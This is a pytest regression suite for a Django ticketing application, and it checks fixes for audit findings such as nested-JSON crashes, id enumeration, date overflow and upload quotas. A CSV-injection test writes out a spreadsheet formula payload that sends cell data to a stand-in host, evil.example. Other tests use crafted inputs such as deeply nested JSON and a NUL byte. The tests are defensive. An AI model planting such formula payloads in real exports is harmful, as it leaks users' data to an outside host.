"""The audit's low findings (issue 12): each test failed on the code before its fix."""

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from accounts.models import Role
from accounts.tests.factories import UserFactory
from tickets.tests.factories import coordinator_on, register

pytestmark = pytest.mark.django_db


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


# --- deeply nested JSON -----------------------------------------------------------------


@pytest.mark.parametrize("depth", [100_000, 40])
def test_deeply_nested_json_is_a_400_in_the_apis_error_shape(depth):
    """100,000 levels made Python's decoder raise RecursionError: a 500."""
    body = '{"level": "default", "start": "2026-01-05T10:00", "target": ' + "[" * depth + "]" * depth + "}"
    response = api(UserFactory(role=Role.AGENT)).post(
        "/api/v1/deadline/", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json() == {"message": response.json()["message"], "errors": {}}
    assert "nested too deeply" in response.json()["message"]


def test_ordinary_json_still_parses():
    response = api(UserFactory(role=Role.AGENT)).post(
        "/api/v1/deadline/",
        {"level": "default", "start": "2026-01-05T10:00", "target": "4h"},
        format="json",
    )
    assert response.status_code == 200, response.json()


# --- list filters answer alike for missing and foreign ids ------------------------------


def test_a_list_filter_answers_alike_for_an_id_that_does_not_exist_and_another_organisations():
    """Before: "Select a valid choice" (400) for a missing id, an empty list for another
    organisation's, which told a customer which ids exist."""
    mine, theirs = coordinator_on("extended"), coordinator_on("extended")
    register(mine)
    their_ticket = register(theirs)
    customer = api(mine)
    for query in (
        f"organisation={theirs.organisation_id}",
        "organisation=987654321",
        f"assignee={UserFactory(role=Role.AGENT).pk}",
        "assignee=987654321",
    ):
        response = customer.get(f"/api/v1/tickets/?{query}")
        assert response.status_code == 200, (query, response.json())
        assert response.json()["results"] == [], query
    for ticket in (their_ticket.pk, 987654321):
        response = customer.get(f"/api/v1/attachments/?ticket={ticket}")
        assert (response.status_code, response.json()["results"]) == (200, [])
    own = customer.get(f"/api/v1/tickets/?organisation={mine.organisation_id}").json()["results"]
    assert len(own) == 1
    assert customer.get("/api/v1/tickets/?organisation=abc").status_code == 400  # not a number


# --- dates outside 1990-2100 on the manager pages and the CSV ----------------------------


@pytest.mark.parametrize(
    "url",
    [
        "/manager/?start=9999-12-01&end=9999-12-31",
        "/manager/dashboard.csv?start=9999-12-01&end=9999-12-31",
        "/manager/dashboard.csv?start=1000-01-01&end=1000-01-31",
        "/manager/tickets/?state=stopped&stopped_from=9999-12-31&stopped_to=9999-12-31",
        "/manager/tickets/?week=9999-12-31",
        "/manager/tickets/?figure=1&stopped_from=9999-12-01&stopped_to=9999-12-31",
    ],
)
def test_manager_pages_and_the_csv_answer_a_year_9999_date_with_a_400(manager_client, url):
    """Before: OverflowError, a 500."""
    response = manager_client.get(url)
    assert response.status_code == 400
    assert "1990-01-01" in response.content.decode()


def test_an_outage_in_year_9999_is_a_form_error(manager_client):
    response = manager_client.post(
        "/manager/availability/",
        {
            "action": "outage",
            "outage-title": "Far",
            "outage-starts_at": "9999-12-31T10:00",
            "outage-ends_at": "9999-12-31T11:00",
        },
    )
    assert response.status_code == 400
    assert "1990-01-01" in response.content.decode()


# --- CSV injection ----------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_neutralised(start):
    from managers.csv_export import csv_cell

    assert csv_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"
    assert csv_cell("Plain text") == "Plain text" and csv_cell(-3) == -3


def test_the_dashboard_csv_neutralises_a_formula_in_a_label(manager_client):
    from sla.models import PublishedFigure

    figure = PublishedFigure.objects.order_by("pk").first()
    figure.label = '=HYPERLINK("http://evil.example/?"&A1)'
    figure.save(update_fields=["label"])
    response = manager_client.get("/manager/dashboard.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
    assert not any(cell.startswith("=") for cell in cells)


# --- upload totals per message and per organisation --------------------------------------


def test_one_message_may_carry_at_most_the_total_limit(settings):
    settings.TICKETS_ATTACHMENT_MAX_BYTES = 1000
    settings.TICKETS_ATTACHMENT_MAX_MESSAGE_BYTES = 1500
    files = [SimpleUploadedFile(f"log{n}.txt", b"x" * 900) for n in range(2)]  # each under 1000
    with pytest.raises(ValidationError) as refused:
        register(coordinator_on("extended"), attachments=files)
    assert "at most 1.5" in refused.value.message_dict["attachments"][0]


def test_an_organisation_stores_files_up_to_its_quota(settings):
    from tickets.models import Attachment, Ticket

    settings.TICKETS_ATTACHMENT_ORGANISATION_QUOTA_BYTES = 2000
    coordinator = coordinator_on("extended")
    register(coordinator, attachments=[SimpleUploadedFile("a.txt", b"x" * 900)])
    register(coordinator, attachments=[SimpleUploadedFile("b.txt", b"x" * 900)])
    before = Ticket.objects.count()
    with pytest.raises(ValidationError) as refused:
        register(coordinator, attachments=[SimpleUploadedFile("c.txt", b"x" * 900)])
    assert "storage quota" in refused.value.message_dict["attachments"][0]
    assert Ticket.objects.count() == before and Attachment.objects.count() == 2  # nothing half-written
    register(coordinator_on("extended"), attachments=[SimpleUploadedFile("d.txt", b"x" * 900)])  # others' own


def test_the_portal_answers_an_upload_over_the_quota_with_a_form_error(client, settings):
    from django.urls import reverse

    from tickets.models import Product, Ticket

    settings.TICKETS_ATTACHMENT_ORGANISATION_QUOTA_BYTES = 100
    coordinator = coordinator_on("extended")
    client.force_login(coordinator)
    product = Product.objects.get(code="qixium-saas")
    response = client.post(
        reverse("portal:register"),
        {
            "kind": "incident",
            "product": product.pk,
            "module": product.modules.first().pk,
            "hosting": "cloud",
            "nature": "technical",
            "urgency": 1,
            "suggested_impact": 1,
            "title": "Inloggen faalt",
            "description": "Niemand kan inloggen.",
            "attachments": [SimpleUploadedFile("log.txt", b"x" * 200)],
        },
    )
    assert response.status_code == 400
    assert "storage quota" in response.content.decode()
    assert not Ticket.objects.exists()


# --- the priority reason ----------------------------------------------------------------


def test_the_api_shows_customers_the_priority_reason_the_portal_shows():
    """An override is a decision about the customer's ticket: its reason is theirs to read."""
    from tickets.models import Ticket

    coordinator = coordinator_on("extended")
    ticket = register(coordinator)
    Ticket.objects.filter(pk=ticket.pk).update(priority_overridden=True, priority_reason="Whole site down")
    data = api(coordinator).get(f"/api/v1/tickets/{ticket.pk}/").json()
    assert data["priority_reason"] == "Whole site down"
    assert "assignee" not in data  # staff-only fields stay hidden


# --- found by the deeper schemathesis run --------------------------------------------------


def test_a_product_code_with_a_nul_byte_is_a_400_not_a_500():
    """PostgreSQL refuses NUL in a query parameter: the lookup raised DataError (a 500)."""
    response = api(coordinator_on("extended")).post(
        "/api/v1/tickets/",
        {"kind": "incident", "title": "x", "product": "qixium\x00", "urgency": 1, "impact": 1},
        format="json",
    )
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["product"]
